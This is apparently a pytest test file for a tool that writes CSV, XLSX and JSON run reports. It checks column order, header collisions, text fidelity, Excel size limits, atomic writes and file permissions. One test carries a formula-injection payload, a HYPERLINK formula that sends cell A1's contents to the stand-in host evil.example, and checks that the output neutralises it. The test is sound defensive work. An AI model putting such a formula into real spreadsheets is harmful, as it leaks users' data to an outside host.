"""The report files as a user opens them: results.csv, results.xlsx and summary.json.

The workbook's layout for an auditor (its Summary sheet, the Rows sheet's order and print set-up)
and a retry's one report for the whole file are tested in test_report_workbook.py.

The cell rule (see :mod:`pcxbatch.report.cells`): in the CSV a text that a spreadsheet would
run as a formula gets a leading apostrophe; in the XLSX every text is a string cell holding the
text exactly, with no apostrophe.

Files are read back with the ``csv`` module and openpyxl. openpyxl does not decode OOXML's
``_xHHHH_`` escape (Excel does), so XLSX text is passed through :func:`excel_text` first: what
Excel would show.
"""

from __future__ import annotations

import csv
import json
import os
import re
import stat
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st

from pcxbatch.model import Outcome, ReportLine
from pcxbatch.report import (
    RESULT_COLUMNS,
    RESULT_TRAILING,
    atomic_write_text,
    neutralise,
    report_headers,
    table,
    write_results,
    write_summary,
)

INPUT_COLUMNS = ("User ID", "Status", "Note")
DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_EXCEL_ESCAPE = re.compile("_x([0-9A-Fa-f]{4})_")


def excel_text(value: object) -> object:
    """What Excel shows for a string cell as openpyxl returns it (decodes ``_xHHHH_``)."""
    if isinstance(value, str):
        return _EXCEL_ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), value)
    return value


def make_line(row: int, **overrides: Any) -> ReportLine:
    fields: dict[str, Any] = {
        "row": row,
        "user_id": f"u{row}",
        "action": "deactivate",
        "target_status": "inactive",
        "outcome": Outcome.APPLIED,
        "http_status": 200,
        "attempts": 1,
        "message": "",
        "request_id": f"req-{row}",
        "values": (f"u{row}", "inactive", f"note {row}"),
    }
    fields.update(overrides)
    return ReportLine(**fields)


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "results.csv must start with a UTF-8 BOM for Excel"
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def read_xlsx(path: Path) -> dict[str, list[tuple[object, ...]]]:
    """Every sheet's rows, as Excel shows them."""
    book = openpyxl.load_workbook(path, read_only=True)
    try:
        return {
            ws.title: [tuple(excel_text(v) for v in r) for r in ws.iter_rows(values_only=True)]
            for ws in book.worksheets
        }
    finally:
        book.close()


def in_csv_order(
    sheet: list[tuple[object, ...]], headers: Sequence[str]
) -> list[tuple[object, ...]]:
    """The Rows sheet's rows with their columns put back in the CSV's order (by header)."""
    position = [list(sheet[0]).index(cleaned(h)) for h in headers]  # as the sheet holds them
    return [tuple(row[i] for i in position) for row in sheet]


def write(
    tmp_path: Path, lines: Sequence[ReportLine], columns: Sequence[str] = INPUT_COLUMNS
) -> tuple[list[list[str]], list[tuple[object, ...]]]:
    """Write both files and return (csv rows, the Rows sheet's rows in the CSV's column order)."""
    paths = write_results(tmp_path, columns, iter(lines), xlsx=True)
    assert paths == [tmp_path / "results.csv", tmp_path / "results.xlsx"]
    sheets = read_xlsx(paths[1])
    assert list(sheets) == ["Summary", "Rows"]
    return read_csv(paths[0]), in_csv_order(sheets["Rows"], report_headers(columns))


# --- headers, rows, order, types ---------------------------------------------------------------


def test_rows_come_out_in_the_order_given_with_result_and_input_columns(tmp_path: Path) -> None:
    lines = [
        make_line(5, message='refused, "quoted"\nsecond line', values=("u5", "x", "a,b")),
        make_line(2, outcome=Outcome.INVALID, http_status=None, attempts=0, request_id=""),
        make_line(9, outcome=Outcome.FAILED, http_status=503, attempts=4),
    ]
    rows, sheet = write(tmp_path, lines)

    # results.csv keeps its order (scripts read it); earlier_run is empty: this run did them.
    expected_header = [*RESULT_COLUMNS, *INPUT_COLUMNS, *RESULT_TRAILING]
    assert rows[0] == expected_header
    assert list(sheet[0]) == expected_header
    assert rows[1:] == [
        ["5", "u5", "deactivate", "inactive", "applied", "yes", "200", "1",
         "refused, \"quoted\"\nsecond line", "req-5", "u5", "x", "a,b", ""],
        ["2", "u2", "deactivate", "inactive", "invalid", "yes", "", "0", "", "", "u2", "inactive",
         "note 2", ""],
        ["9", "u9", "deactivate", "inactive", "failed", "yes", "503", "4", "", "req-9", "u9",
         "inactive", "note 9", ""],
    ]  # fmt: skip
    assert sheet[1:] == [
        (5, "u5", "deactivate", "inactive", "applied", "yes", 200, 1,
         "refused, \"quoted\"\nsecond line", "req-5", "u5", "x", "a,b", None),
        (2, "u2", "deactivate", "inactive", "invalid", "yes", None, 0, None, None, "u2",
         "inactive", "note 2", None),
        (9, "u9", "deactivate", "inactive", "failed", "yes", 503, 4, None, "req-9", "u9",
         "inactive", "note 9", None),
    ]  # fmt: skip


def test_csv_uses_commas_crlf_and_a_bom(tmp_path: Path) -> None:
    write_results(tmp_path, ["a"], [make_line(2, values=("x",))], xlsx=False)
    raw = (tmp_path / "results.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfrow,user_id,action,")
    assert raw.endswith(b"\r\n")
    assert raw.count(b"\r\n") == 2


def test_numeric_looking_text_stays_text_and_numbers_are_numbers(tmp_path: Path) -> None:
    line = make_line(
        3,
        user_id="00012345",
        values=("00012345", "1e5", "2024-01-02"),
        request_id="12",
        message="TRUE",
    )
    _, sheet = write(tmp_path, [line])
    row = sheet[1]
    assert row[0] == 3 and row[6] == 200 and row[7] == 1
    assert row[1] == "00012345"
    assert row[9] == "12" and row[8] == "TRUE"
    assert row[10:13] == ("00012345", "1e5", "2024-01-02")


def test_csv_only_when_xlsx_is_not_wanted(tmp_path: Path) -> None:
    paths = write_results(tmp_path, INPUT_COLUMNS, [make_line(2)], xlsx=False)
    assert paths == [tmp_path / "results.csv"]
    assert sorted(os.listdir(tmp_path)) == ["results.csv"]


def test_no_lines_still_gives_headers(tmp_path: Path) -> None:
    rows, sheet = write(tmp_path, [])
    assert rows == [[*RESULT_COLUMNS, *INPUT_COLUMNS, *RESULT_TRAILING]]
    assert sheet == [(*RESULT_COLUMNS, *INPUT_COLUMNS, *RESULT_TRAILING)]


def test_a_line_with_the_wrong_number_of_values_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="row 7"):
        write_results(tmp_path, INPUT_COLUMNS, [make_line(7, values=("a",))], xlsx=True)
    assert os.listdir(tmp_path) == []


# --- header collisions -------------------------------------------------------------------------


def test_input_columns_that_collide_get_a_stable_suffix() -> None:
    headers = report_headers(
        ["user_id", "USER_ID", " Outcome ", "note", "Note", "user_id (input)", "Message",
         "Earlier_Run"]
    )  # fmt: skip
    assert headers == [
        *RESULT_COLUMNS,
        "user_id (input)",
        "USER_ID (input 2)",
        "Outcome (input)",
        "note",
        "Note (input)",
        "user_id (input) (input)",
        "Message (input)",
        "Earlier_Run (input)",
        "earlier_run",
    ]


@given(st.lists(st.text(max_size=12), max_size=12))
def test_headers_are_always_unique_and_keep_the_result_columns_first(
    columns: list[str],
) -> None:
    headers = report_headers(columns)
    assert headers[: len(RESULT_COLUMNS)] == list(RESULT_COLUMNS)
    assert headers[-len(RESULT_TRAILING) :] == list(RESULT_TRAILING)
    assert len(headers) == len(RESULT_COLUMNS) + len(columns) + len(RESULT_TRAILING)
    keys = [neutralise(h).strip().casefold() for h in headers]
    assert len(set(keys)) == len(keys)
    assert report_headers(columns) == headers  # stable


def test_colliding_headers_are_written_with_their_suffix(tmp_path: Path) -> None:
    rows, sheet = write(tmp_path, [make_line(2, values=("a", "b"))], columns=["User_ID", "outcome"])
    assert rows[0][-3:-1] == ["User_ID (input)", "outcome (input)"]
    assert sheet[0][-3:-1] == ("User_ID (input)", "outcome (input)")


# --- formula neutralisation --------------------------------------------------------------------


@pytest.mark.parametrize("prefix", DANGEROUS_PREFIXES)
def test_neutralise_prefixes_dangerous_text(prefix: str) -> None:
    assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize("text", ["", "plain", " =1+1", "a=b", "'=already", "1-2", "\n=x"])
def test_neutralise_leaves_other_text_alone(text: str) -> None:
    assert neutralise(text) == text


@pytest.mark.parametrize("prefix", DANGEROUS_PREFIXES)
def test_every_text_cell_and_header_is_neutralised_in_csv_and_a_string_in_xlsx(
    tmp_path: Path, prefix: str
) -> None:
    payload = prefix + 'HYPERLINK("http://evil.example/?"&A1,"x")'
    line = make_line(
        2,
        user_id=payload,
        action=payload,
        target_status=payload,
        message=payload,
        request_id=payload,
        values=(payload, payload),
    )
    rows, sheet = write(tmp_path, [line], columns=["plain", payload])
    safe = "'" + payload

    assert rows[0][-2] == safe
    assert sheet[0][-2] == payload  # a string cell is never evaluated: no apostrophe needed
    text_columns = [1, 2, 3, 8, 9, 10, 11]
    assert [rows[1][i] for i in text_columns] == [safe] * len(text_columns)
    assert [sheet[1][i] for i in text_columns] == [payload] * len(text_columns)

    book = openpyxl.load_workbook(tmp_path / "results.xlsx")
    for ws in book.worksheets:  # the Summary sheet too
        for cells in ws.iter_rows():
            for cell in cells:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", f"{ws.title}!{cell.coordinate} not a string"


# --- text kept exactly -------------------------------------------------------------------------

# Two _xHHHH_ escapes sharing an underscore ("_x0041_x0042_") are escaped by xlsxwriter in a
# way Excel reads back differently; no real text looks like that, so the property skips it.
_OVERLAPPING_ESCAPES = re.compile("_x[0-9A-Fa-f]{4}(?=_x[0-9A-Fa-f]{4}_)")


def cleaned(text: str) -> str:
    """A lone surrogate (which no UTF-8 file can hold) becomes U+FFFD."""
    return re.sub("[\ud800-\udfff]", "\ufffd", text)


def as_written(text: str) -> str:
    """The documented CSV rule: neutralised and cleaned."""
    return cleaned(neutralise(text))


@settings(max_examples=60, deadline=None)
@given(
    message=st.text(max_size=80),
    value=st.text(
        alphabet=st.one_of(st.characters(), st.sampled_from('_x0Fa=\r\n\t",;')), max_size=40
    ),
)
@example(message="x", value="\ud800")  # a lone surrogate in a header: written as U+FFFD
def test_any_text_round_trips_neutralised_in_csv_and_exactly_in_xlsx(
    tmp_path_factory: pytest.TempPathFactory, message: str, value: str
) -> None:
    assume(not _OVERLAPPING_ESCAPES.search(message + "\0" + value))
    run_dir = tmp_path_factory.mktemp("run")
    line = make_line(2, message=message, values=(value,))
    rows, sheet = write(run_dir, [line], columns=[value or "blank"])

    assert rows[1][8] == as_written(message)
    assert rows[1][10] == as_written(value)
    # XLSX: an empty string is an empty cell.
    assert sheet[1][8] == (cleaned(message) or None)
    assert sheet[1][10] == (cleaned(value) or None)
    header = report_headers([value or "blank"])[10]
    assert rows[0][10] == as_written(header)
    assert sheet[0][10] == cleaned(header)


def test_control_characters_do_not_corrupt_the_xlsx(tmp_path: Path) -> None:
    nasty = "a\x00b\x01c\x08d\x0be\x0cf\x1fg\ufffeh\uffffi\x7fj\r\nk\tl _x0041_ m"
    rows, sheet = write(tmp_path, [make_line(2, message=nasty, values=(nasty, "", ""))])
    assert rows[1][8] == nasty
    assert rows[1][10] == nasty
    assert sheet[1][8] == nasty
    assert sheet[1][10] == nasty


def test_a_lone_surrogate_becomes_a_replacement_character(tmp_path: Path) -> None:
    rows, sheet = write(tmp_path, [make_line(2, message="bad \udc80 byte")])
    assert rows[1][8] == "bad \ufffd byte"
    assert sheet[1][8] == "bad \ufffd byte"


def _utf16_len(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


@pytest.mark.parametrize("unit", ["a", "\U0001f600"])
def test_text_longer_than_an_excel_cell_is_cut_with_a_note(tmp_path: Path, unit: str) -> None:
    long_text = "=" + unit * 40_000
    rows, sheet = write(tmp_path, [make_line(2, message=long_text)])

    assert rows[1][8] == "'" + long_text  # the CSV is the complete record
    cell = sheet[1][8]
    assert isinstance(cell, str)
    assert _utf16_len(cell) <= 32_767
    assert cell.startswith("=" + unit * 1000)
    assert "truncated" in cell and "40,001" in cell and "results.csv" in cell  # as in the CSV
    assert "\ufffd" not in cell  # never cut inside a surrogate pair


def test_text_at_the_excel_limit_is_kept_whole(tmp_path: Path) -> None:
    text = "b" * 32_767
    _, sheet = write(tmp_path, [make_line(2, message=text)])
    assert sheet[1][8] == text


# --- Excel's row limit ---------------------------------------------------------------------------


def test_more_lines_than_a_sheet_holds_leave_the_csv_alone_and_summary_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(table, "XLSX_ROWS_PER_SHEET", 3)
    summary: dict[str, Any] = {"run_id": "r1"}
    paths = write_results(
        tmp_path, INPUT_COLUMNS, (make_line(r) for r in range(2, 9)), xlsx=True, summary=summary
    )
    assert paths == [tmp_path / "results.csv"]
    assert sorted(os.listdir(tmp_path)) == ["results.csv"]  # no scratch workbook left behind
    assert len(read_csv(tmp_path / "results.csv")) == 8  # every line
    assert summary["results_xlsx"]["written"] is False
    assert "7 rows are more than one Excel sheet holds (3)" in summary["results_xlsx"]["why"]


def test_lines_that_fill_a_sheet_exactly_still_get_the_workbook(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(table, "XLSX_ROWS_PER_SHEET", 3)
    summary: dict[str, Any] = {}
    write_results(tmp_path, INPUT_COLUMNS, map(make_line, range(2, 5)), xlsx=True, summary=summary)
    assert [r[0] for r in read_xlsx(tmp_path / "results.xlsx")["Rows"]] == ["row", 2, 3, 4]
    assert summary["results_xlsx"] == {"written": True}


# --- streaming, atomicity, permissions ---------------------------------------------------------


def test_lines_are_written_while_they_are_produced(tmp_path: Path) -> None:
    seen_on_disk: list[int] = []

    def lines() -> Iterator[ReportLine]:
        for r in range(2, 5002):
            if r == 4000:
                seen_on_disk.extend(p.stat().st_size for p in tmp_path.glob(".results.csv.*"))
            yield make_line(r, message="m" * 20)

    write_results(tmp_path, INPUT_COLUMNS, lines(), xlsx=True)
    assert seen_on_disk and seen_on_disk[0] > 100_000  # not gathered in memory first
    rows = read_csv(tmp_path / "results.csv")
    assert len(rows) == 5001 and rows[-1][0] == "5001"
    sheet = read_xlsx(tmp_path / "results.xlsx")["Rows"]
    assert len(sheet) == 5001 and sheet[-1][0] == 5001


def test_success_leaves_only_the_reports(tmp_path: Path) -> None:
    write_results(tmp_path, INPUT_COLUMNS, [make_line(2)], xlsx=True)
    write_summary(tmp_path, {"exit_code": 0})
    assert sorted(os.listdir(tmp_path)) == ["results.csv", "results.xlsx", "summary.json"]


class Boom(Exception):
    pass


def _failing_lines(fail_at: int) -> Iterator[ReportLine]:
    for r in range(2, 1000):
        if r == fail_at:
            raise Boom("the run stopped")
        yield make_line(r)


@pytest.mark.parametrize("xlsx", [True, False])
def test_a_failure_mid_way_leaves_no_report_and_no_temp_files(tmp_path: Path, xlsx: bool) -> None:
    with pytest.raises(Boom):
        write_results(tmp_path, INPUT_COLUMNS, _failing_lines(500), xlsx=xlsx)
    assert os.listdir(tmp_path) == []


def test_a_failure_keeps_an_earlier_complete_report(tmp_path: Path) -> None:
    write_results(tmp_path, INPUT_COLUMNS, [make_line(2)], xlsx=True)
    before = {name: (tmp_path / name).read_bytes() for name in os.listdir(tmp_path)}
    with pytest.raises(Boom):
        write_results(tmp_path, INPUT_COLUMNS, _failing_lines(10), xlsx=True)
    after = {name: (tmp_path / name).read_bytes() for name in os.listdir(tmp_path)}
    assert after == before


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.usefixtures("open_umask")
def test_files_are_readable_by_the_owner_only(tmp_path: Path) -> None:
    paths = write_results(tmp_path, INPUT_COLUMNS, [make_line(2)], xlsx=True)
    paths.append(write_summary(tmp_path, {"a": 1}))
    atomic_write_text(tmp_path / "plan.txt", "x")
    paths.append(tmp_path / "plan.txt")
    assert {p.name: _mode(p) for p in paths} == {p.name: 0o600 for p in paths}


# --- summary.json and atomic_write_text --------------------------------------------------------


def test_summary_is_pretty_json_in_the_order_given(tmp_path: Path) -> None:
    summary = {
        "job": "nightly-offboarding",
        "run_id": "20240102T030405Z-ab12",
        "input": {"name": "Liste für März.xlsx", "sha256": "0" * 64},
        "started": datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC),
        "counts": {Outcome.APPLIED.value: 3, "failed": 1},
        "outcome": Outcome.FAILED,
        "exit_code": 1,
    }
    path = write_summary(tmp_path, summary)
    assert path == tmp_path / "summary.json"
    text = path.read_text(encoding="utf-8")
    assert text.endswith("}\n")
    assert '\n  "job": "nightly-offboarding",\n' in text  # indented, one key per line
    assert "Liste für März.xlsx" in text  # readable, not \u-escaped
    loaded = json.loads(text)
    assert list(loaded) == list(summary)
    assert loaded["started"] == "2024-01-02T03:04:05+00:00"
    assert loaded["outcome"] == "failed"
    assert loaded["counts"] == {"applied": 3, "failed": 1}


def test_summary_that_cannot_be_written_leaves_the_old_one(tmp_path: Path) -> None:
    write_summary(tmp_path, {"exit_code": 0})
    with pytest.raises(TypeError):
        write_summary(tmp_path, {"exit_code": object()})
    assert json.loads((tmp_path / "summary.json").read_text()) == {"exit_code": 0}
    assert os.listdir(tmp_path) == ["summary.json"]


def test_atomic_write_text_replaces_whole_files_only(tmp_path: Path) -> None:
    target = tmp_path / "journal.txt"
    atomic_write_text(target, "first\n")
    atomic_write_text(target, "second\n")
    assert target.read_text() == "second\n"
    with pytest.raises(UnicodeEncodeError):
        atomic_write_text(target, "half written \udc80")
    assert target.read_text() == "second\n"
    assert os.listdir(tmp_path) == ["journal.txt"]
